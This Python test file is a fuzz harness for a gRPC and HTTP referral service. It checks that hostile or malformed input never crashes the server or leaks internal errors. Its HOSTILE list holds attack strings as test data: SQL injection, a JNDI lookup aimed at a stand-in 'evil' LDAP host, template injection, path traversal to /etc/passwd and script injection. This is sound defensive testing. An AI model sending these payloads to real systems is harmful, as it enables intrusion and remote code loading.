"""Hostile input: a hypothesis harness that builds request messages for every RPC from the
descriptors (hostile strings in every text field, extreme numbers, unknown enum values, odd
timestamps and durations), plus raw random bytes as the payload of every method. Whatever comes
in: no UNKNOWN or INTERNAL, exactly one ErrorInfo on every error, the server keeps serving, and
the database invariants hold afterwards.

The normal suite runs a bounded number of examples per method (``REFERRAL_FUZZ_EXAMPLES``, 25 by
default); ``make fuzz`` runs many more.
"""

from __future__ import annotations

import os
import time
import uuid
from collections.abc import Iterator
from typing import Any

import grpc
import httpx
import pytest
from google.protobuf import duration_pb2, timestamp_pb2
from google.protobuf.descriptor import Descriptor, FieldDescriptor, MethodDescriptor
from google.protobuf.message import Message
from google.protobuf.message_factory import GetMessageClass
from grpc_health.v1 import health_pb2
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from referral.v1 import auth_pb2

from referral_service.app import SERVICES
from referral_service.gateway import descriptors
from tests.conftest import Api, bearer
from tests.errors import rich
from tests.invariants import check_invariants

EXAMPLES = int(os.environ.get("REFERRAL_FUZZ_EXAMPLES", "25"))
FORBIDDEN = {grpc.StatusCode.UNKNOWN, grpc.StatusCode.INTERNAL, grpc.StatusCode.DATA_LOSS}

#: Strings attackers and broken clients send.
HOSTILE = [
    "",
    " ",
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "admin'--@example.com",
    "%' OR email LIKE '%",
    "\\",
    "\x00",
    "alice\x00@example.com",
    "a@example.com\x00' OR 1=1",
    "\u0430lice@example.com",  # Cyrillic a: a confusable of alice@
    "alice@\u0435xample.com",  # Cyrillic e in the domain
    "\uff41\uff4c\uff49\uff43\uff45@example.com",  # fullwidth
    "ALICE@EXAMPLE.COM",
    "\u202egnp.exe",  # right-to-left override
    "\u200b\u200d\ufeff",
    "\U0001f600" * 10,
    "\ud7ff\ue000\uffff",
    "a" * 64 + "@" + "b" * 250 + ".com",
    "x" * 300 + "@example.com",
    "y" * 5000,
    "${jndi:ldap://evil/x}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "<script>alert(1)</script>",
    "00000000-0000-0000-0000-000000000000",
    "{12345678-1234-5678-1234-567812345678}",
    "urn:uuid:12345678-1234-5678-1234-567812345678",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.",
    "AAAA.BBBB",
    "ZZZZ",
    "GOOD-CODE_1",
]

TEXT = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=40),
    st.emails(),
    st.text(min_size=200, max_size=2000),
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), st.text(max_size=20)),
)

_INTS = {
    FieldDescriptor.TYPE_INT32: (-(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_SINT32: (-(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_SFIXED32: (-(2**31), 2**31 - 1),
    FieldDescriptor.TYPE_INT64: (-(2**63), 2**63 - 1),
    FieldDescriptor.TYPE_SINT64: (-(2**63), 2**63 - 1),
    FieldDescriptor.TYPE_SFIXED64: (-(2**63), 2**63 - 1),
    FieldDescriptor.TYPE_UINT32: (0, 2**32 - 1),
    FieldDescriptor.TYPE_FIXED32: (0, 2**32 - 1),
    FieldDescriptor.TYPE_UINT64: (0, 2**64 - 1),
    FieldDescriptor.TYPE_FIXED64: (0, 2**64 - 1),
}


def _integers(low: int, high: int) -> st.SearchStrategy[int]:
    edges = [v for v in (low, high, -1, 0, 1, 2**31, 2**31 - 1, 2**53) if low <= v <= high]
    return st.one_of(
        st.sampled_from(edges),
        st.integers(low, high),
        st.integers(-1000, 100_000).filter(lambda v: low <= v <= high),
    )


# --- extreme Durations and Timestamps -----------------------------------------------------------
# The ranges google/protobuf/duration.proto and timestamp.proto allow; values outside them are
# not valid messages of those types and must be INVALID_ARGUMENT, whatever the field.
DURATION_SECONDS_MAX = 315_576_000_000  # 10,000 years
TIMESTAMP_SECONDS_MIN = -62_135_596_800  # 0001-01-01T00:00:00Z
TIMESTAMP_SECONDS_MAX = 253_402_300_799  # 9999-12-31T23:59:59Z
_NOW = int(time.time())
_YEAR = 366 * 86400
#: Seconds past the year 9999 from now: a ttl beyond this overflowed ``now + ttl`` (issue 12, #6).
_TO_YEAR_9999 = TIMESTAMP_SECONDS_MAX - _NOW
_INT64 = (-(2**63), 2**63 - 1)
_INT32 = (-(2**31), 2**31 - 1)
NANOS_EDGES = [0, 1, 999, 1000, 999_999_999, 1_000_000_000, -1, -999_999_999, -1_000_000_000, *_INT32]
DURATION_SECONDS_EDGES = [
    0,
    1,
    -1,
    _YEAR,
    _YEAR + 1,
    _TO_YEAR_9999 - 1,
    _TO_YEAR_9999 + 1,
    300_000_000_000,
    DURATION_SECONDS_MAX,
    DURATION_SECONDS_MAX + 1,
    -DURATION_SECONDS_MAX,
    -DURATION_SECONDS_MAX - 1,
    999_999_999 * 86400,  # timedelta.max
    999_999_999 * 86400 + 86400,
    *_INT64,
]
TIMESTAMP_SECONDS_EDGES = [
    0,
    -1,
    _NOW,
    _NOW + _YEAR,
    _NOW - _YEAR,
    TIMESTAMP_SECONDS_MIN,
    TIMESTAMP_SECONDS_MIN - 1,
    TIMESTAMP_SECONDS_MAX,
    TIMESTAMP_SECONDS_MAX + 1,
    *_INT64,
]


def valid_duration(value: duration_pb2.Duration) -> bool:
    seconds, nanos = value.seconds, value.nanos
    return (
        abs(seconds) <= DURATION_SECONDS_MAX
        and abs(nanos) <= 999_999_999
        and not (seconds > 0 > nanos or seconds < 0 < nanos)
    )


def valid_timestamp(value: timestamp_pb2.Timestamp) -> bool:
    return TIMESTAMP_SECONDS_MIN <= value.seconds <= TIMESTAMP_SECONDS_MAX and 0 <= value.nanos <= 999_999_999


def _edgy(edges: list[int], low: int, high: int) -> st.SearchStrategy[int]:
    """Mostly the edges, sometimes one step off an edge, sometimes anything of the type."""
    return st.one_of(
        st.sampled_from(edges),
        st.builds(lambda v, d: min(max(v + d, low), high), st.sampled_from(edges), st.integers(-2, 2)),
        st.integers(low, high),
    )


EXTREME_DURATIONS = st.builds(
    duration_pb2.Duration,
    seconds=_edgy(DURATION_SECONDS_EDGES, *_INT64),
    nanos=_edgy(NANOS_EDGES, *_INT32),
)
EXTREME_TIMESTAMPS = st.builds(
    timestamp_pb2.Timestamp,
    seconds=_edgy(TIMESTAMP_SECONDS_EDGES, *_INT64),
    nanos=_edgy(NANOS_EDGES, *_INT32),
)
_EXTREME = {
    duration_pb2.Duration.DESCRIPTOR.full_name: EXTREME_DURATIONS,
    timestamp_pb2.Timestamp.DESCRIPTOR.full_name: EXTREME_TIMESTAMPS,
}


def field_strategy(field: FieldDescriptor, depth: int) -> st.SearchStrategy[Any]:
    kind = field.type
    if kind == FieldDescriptor.TYPE_STRING:
        single: st.SearchStrategy[Any] = TEXT
    elif kind == FieldDescriptor.TYPE_BYTES:
        single = st.binary(max_size=256)
    elif kind == FieldDescriptor.TYPE_BOOL:
        single = st.booleans()
    elif kind in _INTS:
        single = _integers(*_INTS[kind])
    elif kind in (FieldDescriptor.TYPE_DOUBLE, FieldDescriptor.TYPE_FLOAT):
        single = st.floats(
            allow_nan=True, allow_infinity=True, width=32 if kind == FieldDescriptor.TYPE_FLOAT else 64
        )
    elif kind == FieldDescriptor.TYPE_ENUM:
        # proto3 enums are open: unknown numbers arrive too
        single = st.one_of(
            st.sampled_from([v.number for v in field.enum_type.values]), _integers(-(2**31), 2**31 - 1)
        )
    elif kind == FieldDescriptor.TYPE_MESSAGE and field.message_type.full_name in _EXTREME:
        single = _EXTREME[field.message_type.full_name]
    elif kind == FieldDescriptor.TYPE_MESSAGE:
        single = message_strategy(field.message_type, depth + 1)
    else:  # pragma: no cover - groups are not proto3
        raise AssertionError(field.full_name)
    if field.is_repeated:
        return st.lists(single, max_size=3)
    return single


def message_strategy(descriptor: Descriptor, depth: int = 0) -> st.SearchStrategy[Any]:
    cls = GetMessageClass(descriptor)
    if depth > 3:
        return st.just(cls())
    optional = {field.name: field_strategy(field, depth) for field in descriptor.fields}
    return st.fixed_dictionaries({}, optional=optional).map(lambda values: cls(**values))


METHODS: list[MethodDescriptor] = [method for service in SERVICES for method in service.methods]


def _path(method: MethodDescriptor) -> str:
    return f"/{method.containing_service.full_name}/{method.name}"


def _check(error: grpc.aio.AioRpcError, what: str) -> None:
    assert error.code() not in FORBIDDEN, f"{what}: {error.code()} {error.details()}"
    if error.code() == grpc.StatusCode.RESOURCE_EXHAUSTED and "rate" not in (error.details() or ""):
        return  # grpc's own message-size refusal carries no details
    details = rich(error)  # exactly one ErrorInfo, our domain, a request id
    assert details.domain == "referral-service"
    assert "Traceback" not in details.message
    assert "sqlalchemy" not in details.message.lower()


class Caller:
    """Calls with a valid token of the kind the RPC takes: a user's, or for service-only RPCs a
    service token with the RPC's scope."""

    def __init__(self, api: Api) -> None:
        self.api = api
        self.token = ""
        self.service_tokens: dict[str, str] = {}

    async def service_token(self, scope: str) -> str:
        if scope not in self.service_tokens:
            account, secret = await self.api.app.services.service_accounts.create(
                f"fuzz-{uuid.uuid4().hex[:8]}", [scope]
            )
            issued = await self.api.auth.IssueServiceToken(
                auth_pb2.IssueServiceTokenRequest(client_id=account.client_id, client_secret=secret)
            )
            self.service_tokens[scope] = issued.access_token
        return self.service_tokens[scope]

    async def fresh_token(self) -> str:
        _, token = await self.api.user_with_token()
        return token

    async def call(self, method: MethodDescriptor, payload: bytes, auth: str) -> grpc.aio.AioRpcError | None:
        if auth == "valid" and descriptors.access_name(method) == "ACCESS_SERVICE":
            metadata: tuple[tuple[str, str], ...] = bearer(
                await self.service_token(descriptors.scope(method))
            )
        elif auth == "valid":
            if not self.token or method.name == "Logout":
                self.token = await self.fresh_token()
            metadata = bearer(self.token)
        elif auth == "garbage":
            metadata = bearer("garbage.token.here")
        else:
            metadata = ()
        failure = None
        try:
            if method.server_streaming:
                # A stream that starts is fine (WatchEvents' first message is its cursor): read
                # the first message or the error, then hang up.
                stream = self.api.channel.unary_stream(
                    _path(method), request_serializer=None, response_deserializer=None
                )(payload, metadata=metadata, timeout=30)
                try:
                    await stream.read()
                finally:
                    stream.cancel()
            else:
                rpc = self.api.channel.unary_unary(
                    _path(method), request_serializer=None, response_deserializer=None
                )
                await rpc(payload, metadata=metadata, timeout=30)
        except grpc.aio.AioRpcError as error:
            _check(error, f"{method.name}({payload[:200]!r})")
            failure = error
        if method.name == "Logout" and auth == "valid":
            self.token = ""
        return failure


async def _still_serving(api: Api) -> None:
    response = await api.health.Check(health_pb2.HealthCheckRequest(service=""))
    assert response.status == health_pb2.HealthCheckResponse.SERVING
    await api.register()
    await check_invariants(api.app.db)


FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=os.environ.get("REFERRAL_FUZZ_RANDOM") != "1",
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
    database=None,
)


def draw(strategy: st.SearchStrategy[Any]) -> list[Any]:
    """Hypothesis as a generator: the server runs on this test's event loop, which a
    ``@given`` test cannot share; the failing input is named in the assertion instead of
    shrunk (derandomized, so a failure reproduces)."""
    examples: list[Any] = []

    @FUZZ
    @given(strategy)
    def collect(example: Any) -> None:
        examples.append(example)

    collect()
    return examples


@pytest.mark.parametrize("method", METHODS, ids=lambda m: m.name)
async def test_generated_messages_never_break_the_server(api: Api, method: MethodDescriptor) -> None:
    caller = Caller(api)
    auths = st.sampled_from(["valid", "valid", "none", "garbage"])
    for message, auth in draw(st.tuples(message_strategy(method.input_type), auths)):
        await caller.call(method, message.SerializeToString(), auth)
    await _still_serving(api)


@pytest.mark.parametrize("method", METHODS, ids=lambda m: m.name)
async def test_random_bytes_never_break_the_server(api: Api, method: MethodDescriptor) -> None:
    caller = Caller(api)
    payloads = st.one_of(st.binary(max_size=512), st.binary(min_size=1, max_size=8).map(lambda b: b * 64))
    for payload in draw(payloads):
        await caller.call(method, payload, "valid")
    await _still_serving(api)


async def test_hostile_strings_in_every_text_field(api: Api) -> None:
    """Every hostile string in every string field of every request, deterministically."""
    caller = Caller(api)
    for method in METHODS:
        for field in method.input_type.fields:
            if field.type != FieldDescriptor.TYPE_STRING:
                continue
            cls = GetMessageClass(method.input_type)
            for value in HOSTILE:
                await caller.call(method, cls(**{field.name: value}).SerializeToString(), "valid")
    await _still_serving(api)


def time_fields(descriptor: Descriptor, depth: int = 0) -> Iterator[list[FieldDescriptor]]:
    """The path to every Duration and Timestamp field of a request, nested ones included."""
    for field in descriptor.fields:
        if field.type != FieldDescriptor.TYPE_MESSAGE or field.is_repeated:
            continue
        if field.message_type.full_name in _EXTREME:
            yield [field]
        elif depth < 3:
            yield from ([field, *rest] for rest in time_fields(field.message_type, depth + 1))


def _with(descriptor: Descriptor, path: list[FieldDescriptor], value: Message) -> Message:
    message = GetMessageClass(descriptor)()
    target = message
    for field in path[:-1]:
        target = getattr(target, field.name)
    getattr(target, path[-1].name).CopyFrom(value)
    return message


TIME_FIELDS = [(method, path) for method in METHODS for path in time_fields(method.input_type)]


def _grid() -> dict[str, list[Message]]:
    return {
        duration_pb2.Duration.DESCRIPTOR.full_name: [
            duration_pb2.Duration(seconds=s, nanos=n) for s in DURATION_SECONDS_EDGES for n in NANOS_EDGES
        ],
        timestamp_pb2.Timestamp.DESCRIPTOR.full_name: [
            timestamp_pb2.Timestamp(seconds=s, nanos=n) for s in TIMESTAMP_SECONDS_EDGES for n in NANOS_EDGES
        ],
    }


def test_every_time_field_of_the_api_is_fuzzed() -> None:
    """The harness finds the fields from the descriptors; this pins that it finds the ones we
    know of (a new Duration or Timestamp request field joins automatically)."""
    names = {f"{method.name}.{'.'.join(f.name for f in path)}" for method, path in TIME_FIELDS}
    assert {"CreateReferralCode.ttl", "CreateReferralCode.expire_time"} <= names


@pytest.mark.parametrize(
    ("method", "path"),
    TIME_FIELDS,
    ids=[f"{m.name}.{'.'.join(f.name for f in p)}" for m, p in TIME_FIELDS],
)
async def test_extreme_durations_and_timestamps_in_every_time_field(
    api: Api, method: MethodDescriptor, path: list[FieldDescriptor]
) -> None:
    """Every Duration and Timestamp request field with the edges of its type (the valid range,
    one past it, int64 extremes, negative, nanos edges: a fixed grid), then random values near
    them: never UNKNOWN/INTERNAL, and a value outside the type's valid range is
    INVALID_ARGUMENT with a field violation naming the field."""
    caller = Caller(api)
    kind = path[-1].message_type.full_name
    name = ".".join(field.name for field in path)
    is_valid = valid_duration if kind == duration_pb2.Duration.DESCRIPTOR.full_name else valid_timestamp
    for value in _grid()[kind] + draw(_EXTREME[kind]):
        request = _with(method.input_type, path, value)
        what = f"{method.name}({name}={value.seconds}s {value.nanos}ns)"
        error = await caller.call(method, request.SerializeToString(), "valid")
        if is_valid(value):  # type: ignore[arg-type]
            continue  # valid for its type: the RPC's own rules decide (never INTERNAL, checked)
        assert error is not None, f"{what} was accepted"
        assert error.code() == grpc.StatusCode.INVALID_ARGUMENT, f"{what}: {error.code()}"
        assert name in rich(error).fields, f"{what}: {rich(error).fields}"
    await _still_serving(api)


#: The JSON forms of extreme Durations and Timestamps (proto3 JSON mapping: strings).
HTTP_EXTREMES: list[dict[str, Any]] = [
    *(
        {"ttl": value}
        for value in (
            "300000000000s",  # valid Duration, past the year 9999 from now: was INTERNAL
            f"{_TO_YEAR_9999 + 1}s",
            "315576000000.999999999s",
            "315576000001s",
            "-315576000001s",
            "-1s",
            "-0.000000001s",
            "0.000000001s",
            "99999999999999999999999999s",
            "1e30s",
            "NaNs",
            "infs",
            "s",
            "",
            "1",
            3600,
            {"seconds": 300000000000},
        )
    ),
    *(
        {"expireTime": value}
        for value in (
            "9999-12-31T23:59:59.999999999Z",
            "0001-01-01T00:00:00Z",
            "10000-01-01T00:00:00Z",
            "0000-12-31T23:59:59Z",
            "-0001-01-01T00:00:00Z",
            "9999-12-31T23:59:59-23:59",
            "0001-01-01T00:00:00+23:59",
            "2026-02-30T00:00:00Z",
            "2026-01-01T00:00:00.0000000001Z",
            "2026-01-01T24:00:00Z",
            "",
            0,
            {"seconds": 253402300800},
        )
    ),
]


async def test_extreme_durations_and_timestamps_over_http(api: Api) -> None:
    """The same edges as JSON through the HTTP gateway: each is refused as 400 with an AIP-193
    envelope (none lies in the allowed future window), never a 500."""
    _, token = await api.user_with_token()
    assert api.app.http_port
    async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{api.app.http_port}", timeout=30) as http:
        for body in HTTP_EXTREMES:
            response = await http.post(
                "/v1/users/me/referral-code", json=body, headers={"Authorization": f"Bearer {token}"}
            )
            assert response.status_code == 400, f"{body}: {response.status_code} {response.text[:300]}"
            error = response.json()["error"]
            assert error["status"] == "INVALID_ARGUMENT", f"{body}: {error}"
            fields = {
                violation["field"]
                for detail in error["details"]
                if detail["@type"] == "type.googleapis.com/google.rpc.BadRequest"
                for violation in detail["fieldViolations"]
            }
            assert fields == {"ttl" if "ttl" in body else "expire_time"}, f"{body}: {error}"
    await _still_serving(api)


async def test_confusable_emails_are_other_accounts_never_the_original(api: Api) -> None:
    email = "alice.confusable@example.com"
    await api.register(email)
    for lookalike in ("\u0430lice.confusable@example.com", "\uff41lice.confusable@example.com"):
        try:
            user = await api.register(lookalike)
        except grpc.aio.AioRpcError as error:
            _check(error, lookalike)
            assert error.code() == grpc.StatusCode.INVALID_ARGUMENT
            continue
        assert user.email != email  # a different mailbox, a different account
        with pytest.raises(grpc.aio.AioRpcError):
            await api.auth.Login(auth_pb2.LoginRequest(email=lookalike, password="wrong password!!"))
    await check_invariants(api.app.db)
